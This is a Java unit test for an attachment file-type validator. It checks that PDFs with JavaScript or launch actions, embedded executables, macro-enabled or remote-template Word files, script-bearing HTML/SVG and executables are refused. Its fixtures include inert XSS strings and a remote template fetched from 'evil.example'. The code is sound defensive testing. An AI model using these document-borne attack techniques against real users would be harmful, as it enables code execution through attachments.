package org.reachable.work.attachments;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.poi.xwpf.usermodel.XWPFDocument;
import org.junit.jupiter.api.Test;

/** A file is what is in it, and what runs is nothing that is attached. */
class FileTypesTest {

    private static final String OF_A_DOCUMENT =
            "<Types><Override ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

    private final FileTypes types = new FileTypes();

    @Test
    void eachThatMayBeAttachedIsKnownByWhatIsInIt() throws IOException {
        assertThat(types.of(SampleFiles.pdf("A letter"))).contains(FileType.PDF);
        assertThat(types.of(SampleFiles.bytes("FFD8FFE000104A46494600", ""))).contains(FileType.JPEG);
        assertThat(types.of(SampleFiles.bytes("89504E470D0A1A0A0000000D49484452", "")))
                .contains(FileType.PNG);
        assertThat(types.of(SampleFiles.bytes("4944330300000000", ""))).contains(FileType.MP3);
        assertThat(types.of(SampleFiles.bytes("00000020", "ftypM4A mp42"))).contains(FileType.M4A);
        assertThat(types.of(SampleFiles.bytes("5249464624000000", "WAVEfmt "))).contains(FileType.WAV);
        var word = new ByteArrayOutputStream();
        try (var document = new XWPFDocument()) {
            document.createParagraph().createRun().setText("Dear all");
            document.write(word);
        }
        assertThat(types.of(word.toByteArray())).contains(FileType.WORD);
    }

    @Test
    void whatRunsOrIsSomethingElseIsRefused() {
        List.of(
                        "<html><script>alert(1)</script></html>",
                        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
                        "#!/bin/sh\necho",
                        "MZ\u0090\0",
                        "GIF89a",
                        "plain words",
                        "{\\rtf1 }")
                .forEach(words -> assertThat(types.of(words.getBytes(StandardCharsets.ISO_8859_1)))
                        .as(words)
                        .isEmpty());
    }

    @Test
    void aPdfThatDoesMoreThanShowItsPagesIsRefused() {
        Map<String, Consumer<PDDocument>> made = Map.of(
                "what runs when it is opened", it -> it.getDocumentCatalog().setOpenAction(script()),
                "what starts a program when it is pressed", it -> pressed(it, new PDActionLaunch(named("S", "Launch"))),
                "what runs when it is pressed", it -> pressed(it, script()),
                "a file within it", FileTypesTest::carryAFile,
                "a form that sends itself", it -> pressed(it, new PDActionSubmitForm()),
                "what stands in it and nothing leads to",
                        it -> it.getPage(0).getCOSObject().setItem("Unseen", script().getCOSObject()),
                "under a password", FileTypesTest::lock);
        made.forEach((as, done) ->
                assertThat(types.of(SampleFiles.pdf("A letter", done))).as(as).isEmpty());
        assertThat(types.of(SampleFiles.pdf("A letter", it -> pressed(it, address()))))
                .as("a link that somebody presses")
                .contains(FileType.PDF);
        assertThat(types.of(Arrays.copyOf(SampleFiles.pdf("A letter"), 100)))
                .as("cut")
                .isEmpty();
    }

    private static PDActionJavaScript script() {
        return new PDActionJavaScript("app.alert(1)");
    }

    private static PDActionURI address() {
        var address = new PDActionURI();
        address.setURI("https://www.childline.org.uk");
        return address;
    }

    private static COSDictionary named(String key, String name) {
        var one = new COSDictionary();
        one.setName(key, name);
        return one;
    }

    private static void pressed(PDDocument document, PDAction action) {
        var link = new PDAnnotationLink();
        link.setAction(action);
        try {
            document.getPage(0).getAnnotations().add(link);
        } catch (IOException neverInMemory) {
            throw new UncheckedIOException(neverInMemory);
        }
    }

    private static void carryAFile(PDDocument document) {
        try {
            var file = new PDComplexFileSpecification();
            file.setFile("tool.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream(new byte[] {1})));
            var files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("tool", file));
            var names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        } catch (IOException neverInMemory) {
            throw new UncheckedIOException(neverInMemory);
        }
    }

    private static void lock(PDDocument document) {
        try {
            document.protect(new StandardProtectionPolicy("owner", "", new AccessPermission()));
        } catch (IOException neverInMemory) {
            throw new UncheckedIOException(neverInMemory);
        }
    }

    @Test
    void anArchiveIsAWordFileOnlyWhereItSaysSoAndHoldsNothingThatRuns() {
        assertThat(types.of(SampleFiles.zip(Map.of("letter.pdf", "x")))).isEmpty();
        assertThat(types.of(SampleFiles.zip(Map.of("[Content_Types].xml", OF_A_DOCUMENT))))
                .contains(FileType.WORD);
        assertThat(types.of(
                        SampleFiles.zip(Map.of("[Content_Types].xml", OF_A_DOCUMENT, "word/vbaProject.bin", "macros"))))
                .isEmpty();
        assertThat(types.of(SampleFiles.zip(
                        Map.of("[Content_Types].xml", OF_A_DOCUMENT, "word/embeddings/oleObject1.bin", "x"))))
                .isEmpty();
        assertThat(types.of(SampleFiles.zip(Map.of(
                        "[Content_Types].xml", OF_A_DOCUMENT.replace("document.main", "document.macroEnabled.main")))))
                .isEmpty();
        assertThat(types.of(
                        SampleFiles.zip(Map.of("[Content_Types].xml", OF_A_DOCUMENT, "word/VBAPROJECT.bin", "macros"))))
                .as("in capitals")
                .isEmpty();
        String template =
                "<Relationship Id=\"r1\" Type=\"http://schemas/attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/>";
        assertThat(types.of(SampleFiles.zip(
                        Map.of("[Content_Types].xml", OF_A_DOCUMENT, "word/_rels/settings.xml.rels", template))))
                .as("what is fetched when it is opened")
                .isEmpty();
        assertThat(types.of(SampleFiles.zip(Map.of(
                        "[Content_Types].xml",
                        OF_A_DOCUMENT,
                        "word/_rels/document.xml.rels",
                        template.replace("attachedTemplate", "hyperlink")))))
                .as("a link that somebody presses")
                .contains(FileType.WORD);
        byte[] cut = SampleFiles.zip(Map.of("[Content_Types].xml", OF_A_DOCUMENT));
        assertThat(types.of(Arrays.copyOf(cut, 60))).isEmpty();
    }
}
